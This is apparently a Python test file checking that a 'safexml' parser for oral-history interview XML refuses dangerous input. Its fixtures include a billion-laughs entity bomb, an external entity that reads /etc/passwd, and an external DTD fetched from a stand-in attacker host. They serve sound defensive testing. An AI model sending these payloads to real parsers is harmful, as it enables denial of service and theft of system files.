"""XML from outside is parsed without expanding entities or fetching anything."""

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from testimonies.safexml import InvalidXMLError, UnsafeXMLError, XMLImportError, parse_xml

BILLION_LAUGHS = """<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
]>
<ROOT><record><title>&lol4;</title></record></ROOT>"""

EXTERNAL_ENTITY = """<?xml version="1.0"?>
<!DOCTYPE ROOT [<!ENTITY secret SYSTEM "file:///etc/passwd">]>
<ROOT><record><title>&secret;</title></record></ROOT>"""

EXTERNAL_DTD = """<?xml version="1.0"?>
<!DOCTYPE ROOT SYSTEM "http://attacker.invalid/evil.dtd">
<ROOT><record><title>x</title></record></ROOT>"""

OHMS_LIKE = """<?xml version="1.0" encoding="UTF-8"?>
<ROOT xmlns="https://www.weareavp.com/nunncenter/ohms">
  <record id="1"><title>증언 — testimony</title>
    <index><point><time>60</time><title>Arrival</title></point></index>
  </record>
</ROOT>"""


def test_a_plain_document_parses():
    root = parse_xml(OHMS_LIKE.encode("utf-8"), source="interview.xml")
    ns = "{https://www.weareavp.com/nunncenter/ohms}"
    assert root.find(f"{ns}record/{ns}title").text == "증언 — testimony"
    assert root.find(f"{ns}record/{ns}index/{ns}point/{ns}time").text == "60"


def test_entity_expansion_is_refused_with_a_clear_error():
    with pytest.raises(UnsafeXMLError) as info:
        parse_xml(BILLION_LAUGHS, source="lolz.xml", forbid_dtd=False)
    message = str(info.value)
    assert message.startswith("lolz.xml: ")
    assert "entity" in message and "refused" in message


def test_external_entities_are_refused_and_nothing_is_read():
    with pytest.raises(UnsafeXMLError) as info:
        parse_xml(EXTERNAL_ENTITY, source="x.xml", forbid_dtd=False)
    assert "refused" in str(info.value)
    assert "root:" not in str(info.value)  # nothing of /etc/passwd


def test_external_dtd_is_refused():
    with pytest.raises(UnsafeXMLError, match="document type declaration"):
        parse_xml(EXTERNAL_DTD)
    # Even when a DTD is allowed, entity declarations in it stay refused.
    with pytest.raises(UnsafeXMLError):
        parse_xml(BILLION_LAUGHS, forbid_dtd=False)
    with pytest.raises(UnsafeXMLError):
        parse_xml(EXTERNAL_ENTITY, forbid_dtd=False)


def test_malformed_xml_says_where():
    with pytest.raises(InvalidXMLError) as info:
        parse_xml(b"<ROOT>\n  <record>\n</ROOT>", source="broken.xml")
    assert "line 3" in str(info.value)
    assert str(info.value).startswith("broken.xml: ")


def test_empty_and_oversized_files_are_refused():
    with pytest.raises(InvalidXMLError, match="empty"):
        parse_xml(b"   ")
    with pytest.raises(InvalidXMLError, match="more than"):
        parse_xml(b"<a>" + b"x" * 2000 + b"</a>", max_bytes=1000)


@settings(max_examples=200, deadline=None)
@given(st.one_of(st.binary(max_size=2000), st.text(max_size=2000)))
def test_any_input_parses_or_raises_only_xml_import_error(data):
    try:
        parse_xml(data)
    except XMLImportError:
        pass


@settings(max_examples=100, deadline=None)
@given(st.text(alphabet=st.characters(blacklist_categories=("Cs",)), max_size=300))
def test_any_text_inside_an_element_round_trips_or_is_refused_cleanly(text):
    from xml.sax.saxutils import escape  # noqa: S406 - escaping only

    try:
        root = parse_xml(f"<a>{escape(text)}</a>")
    except InvalidXMLError:
        return  # control characters are not allowed in XML 1.0
    assert (root.text or "") == text.replace("\r\n", "\n").replace("\r", "\n")
